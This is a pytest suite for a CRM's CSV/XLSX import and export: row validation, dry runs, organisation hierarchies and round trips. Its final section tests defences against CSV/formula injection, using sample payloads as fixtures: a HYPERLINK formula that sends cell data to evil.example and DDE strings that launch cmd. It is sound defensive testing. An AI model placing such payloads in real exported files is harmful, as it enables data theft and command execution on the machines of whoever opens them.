"""CSV/XLSX import (per-row savepoints, error report, dry run) and export round trips."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from crm_store.db import Database
from crm_store.importer import export_rows, import_file, write_table
from crm_store.models import AuditEntry, Contact, Organization
from crm_store.services import Actor, CrmServices

GERMAN_ROWS = [
    ["Vorname", "Nachname", "E-Mail", "Telefon", "Firma", "Position", "Lieblingsfarbe"],
    ["Jürgen", "Müller", "juergen@mueller.example", "0170 5550199", "Müller GmbH", "Geschäftsführer", "blau"],
    ["Anna", "Schmidt", "not-an-email", "", "Müller GmbH", "", ""],
    ["Käthe", "Groß", "kaethe@mueller.example", "12", "", "", ""],
    ["Hans", "Meier", "JUERGEN@mueller.example", "", "", "", ""],
    ["Lena", "Fuchs", "lena@fuchs.example", "+41 79 555 01 23", "Fuchs AG", "CTO", ""],
]


def _csv(path: Path, rows: list[list[str]]) -> Path:
    path.write_text("\n".join(";".join(r) for r in rows) + "\n", encoding="utf-8-sig")
    return path


def _xlsx(path: Path, rows: list[list[str]]) -> Path:
    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    wb.save(path)
    return path


def _count(db: Database, model: type) -> int:
    with db.session() as s:
        return int(s.execute(select(func.count()).select_from(model)).scalar_one())


@pytest.mark.parametrize("writer", [_csv, _xlsx], ids=["csv", "xlsx"])
def test_good_rows_land_and_bad_rows_are_reported(
    db: Database, system: Actor, tmp_path: Path, writer
) -> None:
    path = writer(tmp_path / f"contacts.{writer.__name__[1:]}", GERMAN_ROWS)
    report = import_file(db, system, "contacts", path)
    assert (report.total, report.created) == (5, 2)
    assert [(e.row, e.field) for e in report.errors] == [(3, "email"), (4, "phone"), (5, "email")]
    assert "exists" in report.errors[2].message
    assert report.ignored_columns == ["Lieblingsfarbe"]
    with db.session() as s:
        crm = CrmServices(s, system)
        juergen = crm.contacts.by_email("juergen@mueller.example")
        assert juergen is not None and juergen.organization is not None
        assert (juergen.first_name, juergen.phone, juergen.job_title, juergen.organization.name) == (
            "Jürgen",
            "+491705550199",
            "Geschäftsführer",
            "Müller GmbH",
        )
        assert crm.contacts.by_email("lena@fuchs.example").phone == "+41795550123"  # type: ignore[union-attr]
        names = s.execute(select(Organization.name).order_by(Organization.name)).scalars().all()
    assert names == ["Fuchs AG", "Müller GmbH"]  # the bad row's organisation was rolled back with it


def test_dry_run_validates_and_writes_nothing(db: Database, system: Actor, tmp_path: Path) -> None:
    report = import_file(db, system, "contacts", _csv(tmp_path / "c.csv", GERMAN_ROWS), dry_run=True)
    assert report.dry_run and report.created == 2 and len(report.errors) == 3
    assert (_count(db, Contact), _count(db, Organization), _count(db, AuditEntry)) == (0, 0, 0)


def test_organizations_with_parents_and_aliases(db: Database, system: Actor, tmp_path: Path) -> None:
    rows = [
        ["Company", "Website", "Branche", "VIP", "Parent company"],
        ["Acme Holding AG", "https://www.acme.example/", "Machinery", "ja", ""],
        ["Acme Schweiz AG", "acme.example.ch", "Machinery", "", "Acme Holding AG"],
        ["Orphan Ltd.", "", "", "", "Nobody Inc."],
        ["Dup GmbH", "acme.example", "", "", ""],
    ]
    report = import_file(db, system, "organizations", _csv(tmp_path / "o.csv", rows))
    assert report.created == 2
    assert [(e.row, e.field) for e in report.errors] == [(4, "parent"), (5, "domain")]
    with db.session() as s:
        orgs = {o.name: o for o in s.execute(select(Organization)).scalars()}
        assert orgs["Acme Holding AG"].vip and orgs["Acme Holding AG"].domain == "acme.example"
        assert orgs["Acme Schweiz AG"].parent_id == orgs["Acme Holding AG"].id


def _export(db: Database, kind: str, path: Path, fmt: str) -> Path:
    with db.session() as s:
        headers, rows = export_rows(s, kind)
        write_table(path, headers, rows, fmt)
    return path


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_round_trips(
    db: Database, system: Actor, tmp_path: Path, sqlite_template: Path, fmt: str
) -> None:
    with db.session() as s:
        crm = CrmServices(s, system)
        parent = crm.organizations.create(
            {"name": "Weiß & Partner AG", "domain": "weiss.example", "vip": True}
        )
        child = crm.organizations.create(
            {"name": "Weiß Schweiz AG", "parent_id": parent.id, "industry": "Tax"}
        )
        crm.contacts.create(
            {
                "first_name": "Sören",
                "last_name": "Weiß",
                "email": "soeren@weiss.example",
                "emails": ["s@mail.example"],
                "phones": ["+49 170 5550100", "+49 170 5550101"],
                "organization_id": child.id,
                "language": "de",
                "tags": ["vip", "newsletter"],
            }
        )
        crm.contacts.create({"first_name": "Jane", "last_name": "O'Brien", "email": "jane@initech.example"})
    orgs = _export(db, "organizations", tmp_path / f"orgs.{fmt}", fmt)
    contacts = _export(db, "contacts", tmp_path / f"contacts.{fmt}", fmt)
    shutil.copy(sqlite_template, tmp_path / "copy.db")
    other = Database(f"sqlite:///{tmp_path / 'copy.db'}")
    try:
        assert import_file(other, system, "organizations", orgs).errors == []
        assert import_file(other, system, "contacts", contacts).errors == []
        for kind in ("organizations", "contacts"):
            with db.session() as a, other.session() as b:
                assert list(export_rows(a, kind)[1]) == list(export_rows(b, kind)[1])
    finally:
        other.dispose()


# --- CSV injection ----------------------------------------------------------------------------------
FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?d="&A2,"click")',
    "last_name": "+1+cmd|' /C calc'!A0",
    "salutation": "-2+3",
    "job_title": "@SUM(1+1)",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_attack_export_writes_no_formula_and_round_trips(
    db: Database, system: Actor, tmp_path: Path, sqlite_template: Path, fmt: str
) -> None:
    """Attack: a contact whose name is a formula; a colleague exports and opens the file in a spreadsheet,
    which runs it. Before the fix the XLSX held formula cells and the CSV bare ``=...`` cells."""
    import csv as csv_module

    from openpyxl import load_workbook

    with db.session() as s:
        crm = CrmServices(s, system)
        org = crm.organizations.create({"name": "=cmd|' /C calc'!A0", "industry": "'=already quoted"})
        crm.contacts.create({"first_name": "Bell\x07", "last_name": "Char"})  # XLSX cannot hold \x07
        crm.contacts.create({**FORMULAS, "email": "x@evil.example", "phones": ["+49 170 5550100"],
                             "organization_id": org.id, "tags": ["@risk"]})
    paths = [_export(db, kind, tmp_path / f"{kind}.{fmt}", fmt) for kind in ("organizations", "contacts")]
    cells: list[str] = []
    for path in paths:
        if fmt == "xlsx":
            wb = load_workbook(path)  # not data_only: formulas would show as data_type "f"
            for row in wb.worksheets[0].iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (cell.coordinate, cell.value)
                    cells.append(str(cell.value or ""))
            wb.close()
        else:
            with path.open(encoding="utf-8-sig", newline="") as fh:
                cells.extend(c for row in csv_module.reader(fh) for c in row)
    dangerous = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    if fmt == "csv":
        assert dangerous == []
        assert "'" + FORMULAS["first_name"] in cells and "'+491705550100" in cells
        assert "''=already quoted" in cells
    else:
        assert FORMULAS["first_name"] in dangerous  # stored as a plain string cell, shown as written
    shutil.copy(sqlite_template, tmp_path / "copy.db")
    other = Database(f"sqlite:///{tmp_path / 'copy.db'}")
    try:
        assert import_file(other, system, "organizations", paths[0]).errors == []
        assert import_file(other, system, "contacts", paths[1]).errors == []
        dropped = "\x07" if fmt == "xlsx" else ""  # what an XLSX cell cannot hold is dropped
        for kind in ("organizations", "contacts"):
            with db.session() as a, other.session() as b:
                expected = [[c.replace(dropped, "") if dropped else c for c in r] for r in export_rows(a, kind)[1]]
                assert expected == list(export_rows(b, kind)[1])
        with other.session() as b:
            contact = b.execute(select(Contact).where(Contact.last_name == FORMULAS["last_name"])).scalar_one()
            assert contact.first_name == FORMULAS["first_name"] and contact.job_title == "@SUM(1+1)"
    finally:
        other.dispose()


def test_neutralise_and_restore_are_inverse() -> None:
    from crm_store.importer import neutralise_formula, restore_formula

    for value in ["", "'", "plain", "'plain", "=1", "'=1", "''=1", "\t=1", "-", "@", "+49", "a=b"]:
        assert restore_formula(neutralise_formula(value)) == value
        assert not neutralise_formula(value).startswith(("=", "+", "-", "@", "\t"))
